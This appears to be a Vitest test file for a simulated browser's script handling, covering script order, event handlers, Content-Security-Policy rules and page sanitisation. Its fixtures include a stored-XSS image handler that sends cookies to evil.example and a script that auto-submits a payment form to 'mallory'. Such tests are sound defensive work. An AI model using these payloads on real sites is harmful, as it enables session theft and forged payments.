import { afterEach, expect, test } from 'vitest';
import type { HttpResponse } from '../../../src/http/message.ts';
import type { UserEvent } from '../../../src/browser/script/protocol.ts';
import { browserWithScript, html, javaScript, shop } from './browser-with-script.ts';

let end: (() => void) | null = null;

afterEach(() => end?.());

/** The browser after it has gone to the shop's first page. */
async function show(content: HttpResponse | string, others: Record<string, HttpResponse> = {}) {
  const page = typeof content === 'string' ? html(content) : content;
  const world = browserWithScript({ [shop]: page, ...others });
  end = () => {
    world.hosts.end();
  };
  await world.browser.openTab(shop);
  const act = (type: UserEvent['type'], path: readonly number[], fields = noFields) => {
    const event = { type, path, submitter: null };
    return world.hosts.dispatch(world.browser, world.page().id, event, fields);
  };
  return { ...world, act };
}

const noFields: readonly { path: readonly number[]; value: string; checked: boolean }[] = [];

test('scripts run in document order, after the document has been read, each once', async () => {
  const { text, logged, asked } = await show(
    `<script>console.log('first', document.getElementById('x').textContent)</script>
     <script src="/second.js" defer></script><p id="x">Hello</p>
     <script>console.log('third'); document.getElementById('x').textContent = 'Bye'</script>`,
    { [`${shop}second.js`]: javaScript('console.log("second")') },
  );
  expect(logged()).toEqual(['first Hello', 'second', 'third']);
  expect(text().trim()).toBe('Bye');
  expect(asked()).toContain(`GET ${shop}second.js`);
});

test('what script of another origin does, it does in the name of the page', async () => {
  const { browser } = await show('<script src="https://cdn.example/x.js"></script>', {
    'https://cdn.example/x.js': javaScript('document.cookie = "from=" + location.hostname'),
  });
  expect(browser.jar.all()).toMatchObject([{ name: 'from', value: 'shop.example' }]);
});

test('a script that throws stops no other; a module is not run, and told of', async () => {
  const { events, logged } = await show(
    `<script>null.x</script><script type="module">console.log('module')</script>
     <script>console.log('last')</script>`,
  );
  expect(logged()).toEqual(['last']);
  expect(events).toContainEqual(
    expect.objectContaining({
      type: 'script-failed',
      source: 'page',
      text: "Uncaught TypeError: Cannot read properties of null (reading 'x')",
    }),
  );
  expect(events).toContainEqual(
    expect.objectContaining({ type: 'script-blocked', code: 'module-not-run' }),
  );
});

test('a page without script starts nothing', async () => {
  const { page } = await show('<p>Quiet</p>');
  expect(page().body).toHaveLength(1);
  expect(document.querySelector('iframe[sandbox="allow-scripts"]')).toBeNull();
});

test('a stored review with a handler runs, and its picture goes out with what it stole', async () => {
  const { browser, asked } = await show(
    `<script>document.cookie = 'sid=1'</script>
     <p>Nice <img src="x" onerror="new Image().src = 'https://evil.example/?' + document.cookie"></p>`,
  );
  await expect.poll(asked).toContain('GET https://evil.example/?sid=1');
  expect(browser.activeTab?.page?.url).toBe(shop);
});

test('handlers of the user: a press, and what script prevents', async () => {
  const { act, text, logged } = await show(
    `<button id="b" onclick="document.querySelector('p').innerHTML = '<b>pressed</b> by ' + this.id">x</button>
     <p></p><a href="/away" onclick="return false">no</a><a href="/away">yes</a>
     <script>document.addEventListener('click', (e) => console.log(e.target.tagName))</script>`,
  );
  expect(await act('click', [0])).toBe(false);
  await expect.poll(text).toContain('pressed by b');
  expect(await act('click', [2])).toBe(true);
  expect(await act('click', [3])).toBe(false);
  expect(logged()).toEqual(['BUTTON', 'A', 'A']);
});

test('a form that script takes over: what was filled in, and nothing sent by the browser', async () => {
  const { act, logged } = await show(
    `<form action="/login" method="post"><input name="user"><input name="secret" type="password"></form>
     <script>document.forms[0].onsubmit = (event) => {
       event.preventDefault();
       console.log(new URLSearchParams(new FormData(event.target)).toString());
     }</script>`,
  );
  const fields = [
    { path: [0, 0], value: 'alice', checked: false },
    { path: [0, 1], value: 'butter', checked: false },
  ];
  expect(await act('submit', [0], fields)).toBe(true);
  expect(logged()).toEqual(['user=alice&secret=butter']);
});

test('script sends forms, presses links, and loads pictures that are shown', async () => {
  const { asked, page } = await show(
    `<form action="https://bank.example/pay" method="post"><input name="to" value="mallory"></form>
     <img id="i" alt=""><script>
       document.getElementById('i').src = '/p.png'; document.title = 'Changed';
       document.forms[0].submit();</script>`,
    { [`${shop}p.png`]: { status: 200, fields: [['Content-Type', 'image/png']], content: 'x' } },
  );
  await expect.poll(asked).toContain('POST https://bank.example/pay');
  expect(asked()).toContain(`GET ${shop}p.png`);
  await expect.poll(() => page().url).toBe('https://bank.example/pay');
});

test.each([
  ["script-src 'self'", 'inline', 0],
  ["script-src 'self' 'nonce-abc'", 'by nonce', 1],
  ["default-src 'none'", 'nothing', 0],
])('under %s: %s', async (policy, _, count) => {
  const { logged, events, asked } = await show(
    html(
      `<script nonce="abc">console.log('nonce')</script><script src="https://evil.example/x.js"></script>
       <img src="x" onerror="console.log('handler')">`,
      [['Content-Security-Policy', policy]],
    ),
    { 'https://evil.example/x.js': javaScript('console.log("evil")') },
  );
  expect(logged()).toHaveLength(count);
  expect(asked()).not.toContain('GET https://evil.example/x.js');
  const blocked = events.flatMap((event) => (event.type === 'script-blocked' ? [event] : []));
  expect(blocked.map(({ source }) => source)).toContain('https://evil.example/x.js');
  expect(blocked.map(({ text }) => text)).toContain("console.log('handler')");
  expect(blocked.every(({ rule }) => rule.document === 'CSP')).toBe(true);
});

test('connect-src keeps fetch from going elsewhere', async () => {
  const { asked, events, logged } = await show(
    html(
      `<script>fetch('https://evil.example/').catch((error) => console.log(String(error)))</script>`,
      [['Content-Security-Policy', "connect-src 'self'"]],
    ),
  );
  await expect.poll(logged).toEqual(['TypeError: Failed to fetch']);
  expect(asked()).toEqual([`GET ${shop}`]);
  expect(events).toContainEqual(
    expect.objectContaining({ type: 'script-refused', code: 'blocked-by-policy' }),
  );
});

test('a page that never ends is stopped; its links work all the same', async () => {
  const { events, act } = await show('<a href="/cart">Cart</a><script>for (;;);</script>');
  expect(events).toContainEqual(
    expect.objectContaining({ type: 'script-stopped', reason: 'too-long' }),
  );
  expect(await act('click', [0])).toBe(false);
});

test('whatever script makes of the page, the stage shows only what a page may have', async () => {
  const { page } = await show(
    `<div id="d"></div><script>document.getElementById('d').innerHTML =
      '<iframe src="/x"></iframe><script>1<\\/script><svg onload=1></svg><p style="color:red" onclick="x()">ok</p><a href="javascript:1">a</a>';
      const s = document.createElement('script'); s.textContent = 'console.log(1)'; document.body.append(s);
    </script>`,
  );
  expect(page().body).toEqual([
    {
      element: 'div',
      attributes: { id: 'd' },
      children: [
        expect.objectContaining({ element: 'p', attributes: {}, children: ['ok'] }),
        { element: 'a', attributes: {}, children: ['a'] },
      ],
    },
  ]);
});
